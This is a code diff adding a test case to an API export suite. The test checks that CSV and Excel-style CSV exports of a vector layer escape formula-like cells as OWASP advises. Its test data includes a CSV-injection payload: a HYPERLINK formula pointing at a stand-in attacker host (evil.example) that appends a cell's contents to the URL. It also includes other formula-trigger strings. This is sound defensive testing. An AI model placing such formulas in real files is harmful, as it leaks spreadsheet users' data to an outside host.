@@ -167,6 +167,30 @@ export const exportCases: ApiCase[] = [
     },
   },
   {
+    name: 'CSV and CSV_MSEXCEL escape text that a spreadsheet would run as a formula (OWASP); numbers stay numbers',
+    async run(api, expect) {
+      const res = await api.request('POST', '/api/resource/', { body: {
+        resource: { cls: 'vector_layer', parent: { id: 0 }, display_name: uniq('CSV injection') },
+        vector_layer: { srs: { id: 3857 }, geometry_type: 'POINT',
+          fields: [{ keyname: 'text', datatype: 'STRING' }, { keyname: 'n', datatype: 'INTEGER' }, { keyname: 'x', datatype: 'REAL' }] } } })
+      expect(res.status).toBe(201)
+      const id = res.body.id as number
+      const texts = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTab', '\rCR', 'plain', 'a=b', '-']
+      const rows = texts.map((text, i) => ({ geom: `POINT(${i} 0)`, fields: { text, n: -i - 1, x: -0.5 - i } }))
+      expect((await api.request('PATCH', `/api/resource/${id}/feature/`, { body: rows })).status).toBe(200)
+      for (const [format, sep] of [['CSV', ','], ['CSV_MSEXCEL', ';']] as const) {
+        const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await download(api, expect,
+          `/api/resource/${id}/export?format=${format}&zipped=false&srs=3857`, 'text/csv', `${id}.csv`))
+        // Rows are split on the newline that ends each (the escaped CR sits inside quotes).
+        const lines = text.slice(1).split(/(?<=\d)\n/)
+        expect(lines[0]).toBe(`GEOM${sep}text${sep}n${sep}x\n"POINT(0 0)"${sep}"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"${sep}-1${sep}-0.5`)
+        const cells = lines.slice(1, texts.length).map((l) => l.split(sep).slice(1).join(sep))
+        expect(cells).toEqual([`"'+1+2"${sep}-2${sep}-1.5`, `"'-2+3"${sep}-3${sep}-2.5`, `"'@SUM(A1:A2)"${sep}-4${sep}-3.5`,
+          `"'\tTab"${sep}-5${sep}-4.5`, `"'\rCR"${sep}-6${sep}-5.5`, `plain${sep}-7${sep}-6.5`, `a=b${sep}-8${sep}-7.5`, `"'-"${sep}-9${sep}-8.5`])
+      }
+    },
+  },
+  {
     name: 'formats GDAL writes: zipped Shapefile with its encoding, KML, GPX, DXF, GML, MapInfo; GPX refuses polygons',
     async run(api, expect) {
       const { id, fids } = await seed(api, expect)
